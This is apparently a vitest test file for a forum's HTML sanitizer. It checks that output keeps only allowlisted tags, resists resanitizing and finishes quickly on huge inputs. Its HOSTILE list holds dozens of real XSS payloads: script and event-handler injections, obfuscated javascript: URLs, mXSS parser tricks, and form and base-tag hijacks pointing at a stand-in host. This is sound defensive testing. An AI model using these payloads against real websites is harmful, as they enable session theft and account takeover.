import { describe, expect, it } from "vitest";
import { cleanHtml, plainText, richTextWithinLimit } from "./rich-text.ts";
import { processorTime } from "#testing/processor-time.ts";

/** The complete list of tags and attributes that may come out. */
const ALLOWED = [
  /^<\/?(?:strong|em|u|s|blockquote|h2|h3|ul|ol|li)>$/,
  /^<(?:br|hr) \/>$/,
  /^<\/?p>$|^<p class="align-(?:center|right)(?: align-(?:center|right))*">$|^<\/a>$/,
  /^<a(?: href="(?:https?:|mailto:|\/(?!\/)|#|\?|[a-z0-9])[^"<>]*")?>$/i,
  /^<img src="\/media\/[^"<>]*"(?: alt="[^"<>]*")? \/>$|^<img alt="[^"<>]*" src="\/media\/[^"<>]*" \/>$/,
];
const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? [];
const foreignTags = (html: string) => tagsOf(html).filter((tag) => !ALLOWED.some((form) => form.test(tag)));
const addressesOf = (html: string) => [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address ?? "");

const PICTURE = "/media/images/0b7a1a52-6f3e-4d1c-9a53-3f4f3a0c9d11/default.webp";
const SCRIPT = "alert(1)";
const HOSTILE = [
  `<script>${SCRIPT}</script>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<SCRIPT/SRC=//kwaad.example/x.js></SCRIPT>`,
  `<script>${SCRIPT}`,
  `<p onclick=${SCRIPT}>a</p>`,
  `<p/onmouseover=${SCRIPT}>a`,
  `<p style="position:fixed;background:url(//kwaad.example)">a</p>`,
  `<p class="align-center kwaad fixed">a</p>`,
  `<p class="align-center&quot; onclick=&quot;${SCRIPT}">a</p>`,
  `<style>*{background:url(//kwaad.example)}</style>`,
  `<style><img src="</style><img src=x onerror=${SCRIPT}>">`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src="/media/x.webp" onerror=${SCRIPT} srcset="//kwaad.example/a 1x" style="x">`,
  `<img src="/media/../api/auth/logout">`,
  `<img src="//kwaad.example/media/x.webp">`,
  `<img src="https://kwaad.example/media/x.webp">`,
  `<img src="data:image/svg+xml,<svg onload=${SCRIPT}>">`,
  `<img src="\\\\kwaad.example\\media">`,
  `<img src=" /media/x.webp">`,
  `<img src='/media/x.webp' alt='"><script>${SCRIPT}</script>'>`,
  `<picture><source srcset="//kwaad.example/a"><img src="/media/x.webp"></picture>`,
  `<a href="javascript:${SCRIPT}">a</a>`,
  `<a href="JaVaScRiPt:${SCRIPT}">a</a>`,
  `<a href="java\tscript:${SCRIPT}">a</a>`,
  `<a href="java&#9;script:${SCRIPT}">a</a>`,
  `<a href="java&#x0A;script:${SCRIPT}">a</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${SCRIPT}">a</a>`,
  `<a href="java&#x7f;script:${SCRIPT}">a</a>`,
  `<a href="&#127;javascript:${SCRIPT}">a</a>`,
  `<a href="vbscript&#x9d;:${SCRIPT}">a</a>`,
  `<img src="/&#x81;/kwaad.example/media/x.webp">`,
  `<a href="javascript&colon;${SCRIPT}">a</a>`,
  `<a href=" \u0001javascript:${SCRIPT}">a</a>`,
  `<a href="vbscript:${SCRIPT}">a</a>`,
  `<a href="data:text/html,<script>${SCRIPT}</script>">a</a>`,
  `<a href="//kwaad.example">a</a>`,
  `<a href="/\\kwaad.example">a</a>`,
  `<a href="\\\\kwaad.example">a</a>`,
  `<a href="/\t/kwaad.example">a</a>`,
  `<a href="https://goed.example" target="_top" ping="//kwaad.example" download id="x" name="cookie">a</a>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg onload=${SCRIPT}><a xlink:href="javascript:${SCRIPT}"><text>a</text></a></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${SCRIPT}>">`,
  `<title><p title="</title><img src=x onerror=${SCRIPT}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${SCRIPT}>">`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`,
  `<?xml version="1.0"?><p>a</p><!DOCTYPE html>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe><object data="//kwaad.example"></object><embed src="x">`,
  `<base href="//kwaad.example"><link rel=stylesheet href="//kwaad.example"><meta http-equiv=refresh content="0;//kwaad.example">`,
  `<form action="//kwaad.example"><input name=password><button formaction="javascript:${SCRIPT}">a</button></form>`,
  `<video src=x onerror=${SCRIPT}><audio src=x><details open ontoggle=${SCRIPT}>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${SCRIPT}&amp;gt;`,
  `<p>a < b > c & d "e" 'f'</p>`,
  `<p title="a>b<script>${SCRIPT}</script>">a</p>`,
  `<div class="align-right" onclick=x>a</div><h1 style=x>b</h1><b id=x>c</b><i on=x>d</i>`,
  `<p><p><p></div></strong><li>a</ul>`,
  `<a href="https://goed.example/?a=1&b=2&quot;onclick=${SCRIPT}">a</a>`,
  `<p\u0000onclick=${SCRIPT}>a</p>`,
  `<`,
  `<a href="`,
  `<__proto__ constructor=1>a</__proto__><constructor>b</constructor>`,
];

describe("sanitized HTML", () => {
  it.each(HOSTILE)("of %j has allowed markup only", (html) => {
    const clean = cleanHtml(html);
    expect(foreignTags(clean)).toEqual([]);
    for (const address of addressesOf(clean)) {
      const decoded = address.replaceAll("&amp;", "&");
      expect(new URL(decoded, "https://community.inktvis.example").protocol).toMatch(/^(?:https?|mailto):$/);
      // Browsers resolve a relative address on our own site.
      if (!/^(?:https?|mailto):/i.test(decoded))
        expect(new URL(decoded, "https://community.inktvis.example").host).toBe("community.inktvis.example");
    }
  });

  it.each(HOSTILE)("of %j is stable when sanitized again", (html) => {
    const clean = cleanHtml(html);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it("keeps what the editor produces", () => {
    const body =
      '<h2>Zee</h2><p class="align-center">Eerst <strong>zout</strong>,<br />dan <em>wind</em> &amp; <u>tij</u> <s>nooit</s>.</p>' +
      "<blockquote><p>Iemand</p></blockquote><ul><li><p>een</p></li></ul><ol><li><p>twee</p></li></ol><hr />" +
      '<p><a href="https://voorbeeld.be/?a=1&amp;b=2">daar</a> <a href="mailto:a@b.be">post</a></p>' +
      '<img src="/media/images/0b7a1a52-6f3e-4d1c-9a53-3f4f3a0c9d11/default.webp" alt="Een &quot;schip&quot;" />';
    expect(cleanHtml(body)).toBe(body);
  });

  it.each([
    ["<b>a</b><i>b</i>", "<strong>a</strong><em>b</em>"],
    ["<h1>a</h1><h4>b</h4>", "<h2>a</h2><h3>b</h3>"],
    ["<div>a</div>", "<p>a</p>"],
    ['<p class="align-right kwaad">a</p>', '<p class="align-right">a</p>'],
    ['<a href="javascript:x">a</a>', "<a>a</a>"],
    ['<a href="java&#x81;script:x">a</a>', "<a>a</a>"],
    ["<script>weg</script><style>weg</style>a", "a"],
    ["<span>blijft</span>", "blijft"],
    ["<p>  twee  spaties  </p>", "<p>  twee  spaties  </p>"],
    ["<p>hard&nbsp;e \u00a0spatie</p>", "<p>hard\u00a0e \u00a0spatie</p>"],
    ["<p>\ttab\t</p>", "<p>    tab    </p>"],
    [
      "<p>\r\n  een\n  regel</p>\n<p><em>\n nog</em>\neen<br />\n\tdrie</p>",
      "<p>een regel</p><p><em>nog</em> een<br />drie</p>",
    ],
    [`<img src="${PICTURE}" alt="zee\nen\tzout">`, `<img src="${PICTURE}" alt="zee\nen\tzout" />`],
  ])("turns %s into %s", (html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });

  it.each([
    ["3000 nested tags", "<blockquote>".repeat(3000) + "x"],
    ["3000 nested tags that are closed", "<ul><li>".repeat(1500) + "x" + "</li></ul>".repeat(1500)],
    ["3000 nested unknown tags", "<x>".repeat(3000) + "x"],
    ["200 kB of paragraphs", "<p>Een <strong>zin</strong> met <em>woorden</em>.</p>".repeat(4000)],
    ["200 kB of angle brackets", "<".repeat(200_000)],
    ["200 kB of ends", "</p>".repeat(50_000)],
    ["200 kB of an attribute", `<p ${'a="b" '.repeat(33_000)}>x</p>`],
    ["200 kB of classes", `<p class="${"align-center ".repeat(15_000)}">x</p>`],
    ["200 kB of comment ends", "<!--".repeat(50_000)],
    ["200 kB of entities", "&amp;".repeat(40_000)],
    ["200 kB of a scheme", `<a href="${"java\t".repeat(40_000)}script:x">a</a>`],
    ["200 kB of lines", `<p>x${"\n ".repeat(100_000)}x</p>`],
    ["200 kB of words on lines", `<p>${"x\n".repeat(100_000)}</p>`],
    ["200 kB of spaces", `<p>${" ".repeat(200_000)}x</p>`],
  ])("is sanitized and converted to text well within a second, even for %s", (_case, html) => {
    let clean = "";
    const spent = processorTime(() => {
      clean = cleanHtml(html);
      plainText(clean);
    });
    // About 150 ms on a fast machine.
    expect(spent).toBeLessThan(1000);
    expect(foreignTags(clean)).toEqual([]);
  });

  it("is nested ten levels deep at most, and keeps deeper text", () => {
    const clean = cleanHtml(`${"<blockquote>".repeat(15)}Diep${"</blockquote>".repeat(15)}`);
    expect(clean.match(/<blockquote>/g)).toHaveLength(10);
    expect(plainText(clean)).toBe("Diep");
  });

  it("takes less than a second for 400 kB of nested tags", () => {
    expect(processorTime(() => cleanHtml("<x>".repeat(133_000)))).toBeLessThan(1000);
  });

  // Closing tags without an opening one fool `isTooDeep`: this takes quadratic time.
  it("takes less than a second for 400 kB of tags with mismatched ends", () => {
    expect(processorTime(() => cleanHtml("<em></p>".repeat(50_000)))).toBeLessThan(1000);
  });
});

describe("its plain text", () => {
  it.each([
    ["<p>a</p><p>b</p>", "a b"],
    ["<p>a<br />b</p>", "a b"],
    ["<p>a&amp;b &lt;c&gt; &quot;d&quot;</p>", 'a&b <c> "d"'],
    ["<p>&amp;lt;</p>", "&lt;"],
    ["<p><strong>a</strong>b</p>", "ab"],
    ["<p>  a \n b </p>", "a b"],
    ["", ""],
  ])("of %j is %j", (html, text) => {
    expect(plainText(html)).toBe(text);
  });
});

describe("its size", () => {
  it("is limited: undefined when sanitizing makes it far longer", () => {
    expect(richTextWithinLimit("<".repeat(300_000))).toBeUndefined();
    expect(richTextWithinLimit("<br>".repeat(100_000))?.html).toHaveLength(600_000);
  });
});
